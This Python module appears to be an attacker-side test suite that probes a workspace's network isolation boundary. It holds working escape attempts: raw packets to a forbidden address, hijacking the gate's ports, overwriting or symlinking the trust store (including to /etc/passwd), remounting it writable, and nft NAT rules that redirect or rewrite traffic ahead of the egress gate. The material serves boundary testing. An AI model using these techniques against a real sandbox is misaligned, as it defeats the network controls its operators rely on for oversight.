# What a workspace may do to its own network namespace, and finds in it of the boundary. See attacker.py.

TRUST = "/run/boundary/trust"


def command(text, mark, to="45.79.3.1", port=80):
    """A command, and whether the way out has changed by it."""
    said = shell(text.replace("MARK", mark))
    return f"{said} | {try_out(to, port, mark)}"


def try_out(to, port, mark):
    """TCP, UDP and a raw packet to a forbidden address."""
    said = []
    for way in (lambda: raw_tcp(to, port, mark), lambda: udp(to, 9999, mark), lambda: raw_packet(to, mark)):
        try:
            said.append(way())
        except OSError as error:
            said.append(error_word(error))
    return ", ".join(said)


def raw_packet(to, mark):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 253) as packets:
        packets.sendto(mark.encode(), (to, 0))
        return "sent"


def refused(commands):
    """Which of the commands were not refused."""
    done = {name: shell(text) for name, text in commands.items()}
    return ", ".join(f"{name}: {said}" for name, said in done.items() if re.match(r"0(: |$)", said)) or "all refused"


def processes():
    """Commands of all processes that can be seen."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as file:
                    found.append(file.read().replace(b"\0", b" ").decode("latin1")[:60])
            except OSError:
                pass
    return " | ".join(found)


def boundary_files():
    """What of the boundary's lies in the file system."""
    return shell("ls -d /run/boundary/* /var/lib/boundary /run/docker* /var/run/docker.sock 2>/dev/null | tr '\\n' ' '")


def sockets_found():
    """Unix sockets by path and by abstract name that take a connection."""
    found = []
    paths = shell("find / -xdev -type s 2>/dev/null | tr '\\n' ' '").split(" ")[1:]
    with open("/proc/net/unix", encoding="latin1") as lines:
        named = [line.split()[7] for line in list(lines)[1:] if len(line.split()) > 7]
    for name in [path for path in paths if path.startswith("/")] + named:
        address = "\0" + name[1:] if name.startswith("@") else name
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
            try:
                connection.connect(address)
                found.append(name)
            except OSError:
                pass
    return " ".join(found) or "none"


def gate_ports():
    found = []
    for name, state in (("tcp", "0A"), ("udp", "07")):
        with open(f"/proc/net/{name}", encoding="ascii") as lines:
            rows = [line.split() for line in list(lines)[1:]]
        found.append([int(row[1].split(":")[1], 16) for row in rows if row[3] == state])
    return found


def bind_gate_ports(uid=None):
    """Binds the gate's ports with every option and address that lets two share one."""
    if uid is not None:
        os.setuid(uid)
    taken = []
    for kind, ports in zip((socket.SOCK_STREAM, socket.SOCK_DGRAM), gate_ports()):
        for port in ports:
            for family, address in [(2, "0.0.0.0"), (2, "127.0.0.1"), (2, "198.18.0.53"), (10, "::"), (10, "::ffff:127.0.0.1")]:
                for options in ([], [socket.SO_REUSEADDR], [socket.SO_REUSEPORT], [socket.SO_REUSEADDR, socket.SO_REUSEPORT]):
                    try:
                        with socket.socket(family, kind) as attempt:
                            for option in options:
                                attempt.setsockopt(socket.SOL_SOCKET, option, 1)
                            attempt.bind((address, port))
                            if kind == socket.SOCK_STREAM:
                                attempt.listen(1)
                            taken.append(f"{'tcp' if kind == socket.SOCK_STREAM else 'udp'} {address} {options}")
                    except OSError:
                        pass
    return ", ".join(taken) or ("none" if all(gate_ports()) else "no gate")


def bind_as_user():
    """The same by a user without a capability, in a process of its own."""
    here, there = os.pipe()
    child = os.fork()
    if child == 0:
        os.write(there, bind_gate_ports(4242).encode())
        os._exit(0)
    os.close(there)
    with os.fdopen(here) as said:
        text = said.read()
    os.waitpid(child, 0)
    return text


def write_trust(mark):
    """Changes to what the workspace trusts, in place and by a symbolic link."""
    return refused(
        {
            "a new file": f"touch {TRUST}/{mark}",
            "another content": f"echo {mark} >> {TRUST}/ca.pem",
            "removal": f"rm {TRUST}/bundle.pem",
            "another mode": f"chmod 666 {TRUST}/ca.pem",
            "a link": f"ln -sf /etc/passwd {TRUST}/ca.pem",
            "another name": f"mv {TRUST}/ca.pem {TRUST}/x",
        }
    )


def remount_trust(mark):
    """With SYS_ADMIN what is mounted read-only can be made writable: links, in the place of each file."""
    return shell(
        f"mount -o remount,rw,bind {TRUST} && cd {TRUST} && for file in *; do ln -sfn /var/lib/boundary/policy.json $file; done; ls -l {TRUST} | tail -1"
    )


def redirected_first(rule):
    """A rule of the attacker's that comes before the gate's."""
    table = f"table ip mine {{\nchain c {{\ntype nat hook output priority -150;\n{rule}\n}}\n}}\n"
    subprocess.run(["nft", "-f", "-"], input=table, text=True, check=True)


def own_process_instead(to, mark):
    """The gate's redirect is turned to a process of the attacker's, which then tries to go on."""
    with socket.socket() as listener:
        listener.bind(("0.0.0.0", 0))
        listener.listen(4)
        listener.settimeout(PATIENCE)
        port = listener.getsockname()[1]
        redirected_first(f"ip daddr {to} tcp dport 80 redirect to :{port}")
        said = []
        try:
            with tcp(to, 80) as client:
                taken, _ = listener.accept()
                client.sendall(mark.encode())
                said.append(f"own process got {len(taken.recv(100))} octets")
                taken.close()
            said.append(try_out(to, 81, mark))
        finally:
            shell("nft delete table ip mine")
        return " | ".join(said)


def false_destination(to, mark):
    """A forbidden address, rewritten to that of an allowed name before the gate sees it: allowed is what is dialled."""
    there = socket.gethostbyname("allowed.test")
    redirected_first(f"ip daddr {to} tcp dport 80 dnat to {there}")
    try:
        return http(to, 80, mark, host="forbidden.test")
    finally:
        shell("nft delete table ip mine")


def alive():
    """Whether what is allowed passes."""
    return https("allowed.test", 443, "mark-alive", name="allowed.test")


def command_only(text):
    return shell(text)
